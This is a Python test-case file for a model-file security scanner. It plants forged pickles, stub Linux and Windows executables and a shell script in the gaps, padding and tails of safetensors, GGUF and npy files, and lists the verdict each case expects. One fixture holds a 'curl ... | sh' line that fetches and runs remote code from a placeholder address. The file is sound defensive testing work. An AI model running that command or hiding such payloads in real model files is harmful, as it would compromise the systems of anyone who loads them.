"""Programs and pickles in the holes, the padding and the tails of files of data, and harmless bytes in the same places."""

from __future__ import annotations

import json
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge import Call, Name, dump
from openvet.testing.forge_tensors import GgufTensor, gguf, npy, safetensors_raw

__all__ = ["CASES"]

_PICKLE = dump(Call(Name("os", "system"), ("echo forged",)), 4)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)
_PE = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(40)
_SCRIPT = b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"
_NATIVE = ("file/disguised-program", "file/native-code")
#: What is hidden, and the rules that name it where it is something that runs.
_HIDDEN: tuple[tuple[str, str, bytes, tuple[str, ...]], ...] = (
    ("pickle", "a pickle that starts a process", _PICKLE, ("pickle/runs-process",)),
    ("elf", "a program for Linux", _ELF, _NATIVE),
    ("pe", "a program for Windows", _PE, _NATIVE),
    ("script", "a script", _SCRIPT, ("file/disguised-program", "hub/shell-command")),
    ("padded", "a pickle behind zero bytes", bytes(24) + _PICKLE, ("pickle/runs-process",)),
    ("words", "words", b"these bytes belong to nobody at all", ()),
)


def _safetensors(hidden: bytes) -> bytes:
    """Two tensors of eight bytes with ``hidden`` between them."""
    offset = 8 + len(hidden)
    entries = {
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [offset, offset + 8]},
    }
    return safetensors_raw(json.dumps(entries), bytes(8) + hidden + bytes(8))


def _gguf(hidden: bytes, *, padding: bool) -> bytes:
    """Two tensors with ``hidden`` between them, in the padding of the first or in a hole behind that."""
    first = GgufTensor("a", (2,), 0, size=8)
    start = 8 if padding else 32
    offset = start + len(hidden) + -(start + len(hidden)) % 32
    data = bytes(start) + hidden
    data += bytes(offset - len(data)) + bytes(32)
    second = GgufTensor("b", (8,), 0, size=32, offset=offset)
    return gguf([("general.architecture", "string", "llama")], [first, second], data=data)


def _case(
    name: str, technique: str, data: bytes, file: str, decision: Literal["admit", "review", "reject"], *rules: str
) -> Case:
    return Case(f"holes/{name}", technique, lambda: data, decision, frozenset(rules), name=file)


CASES: tuple[Case, ...] = (
    *(
        _case(f"safetensors-{word}", f"{what} between two tensors", _safetensors(hidden), "model.safetensors", "reject" if rules else "review", "safetensors/header-lies", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    *(
        _case(f"gguf-{word}", f"{what} between two tensors", _gguf(hidden, padding=False), "model.gguf", "reject" if rules else "review", "gguf/header-lies", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    _case("gguf-padding", "a pickle from the padding of a tensor on", _gguf(_PICKLE, padding=True), "model.gguf", "reject", "gguf/header-lies", "pickle/runs-process"),
    _case("npy-tail", "a program behind zero bytes behind an array", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", bytes(8)) + bytes(16) + _ELF, "x.npy", "reject", "file/trailing-data", *_NATIVE),
    _case("safetensors-tail", "a pickle behind zero bytes behind the last tensor", _safetensors(b"") + bytes(16) + _PICKLE, "model.safetensors", "reject", "file/trailing-data", "pickle/runs-process"),
    _case("safetensors-plain", "two tensors with nothing between them", _safetensors(b""), "model.safetensors", "admit"),
    _case("gguf-plain", "two tensors with zeros between them", _gguf(b"", padding=True), "model.gguf", "admit"),
)  # fmt: skip
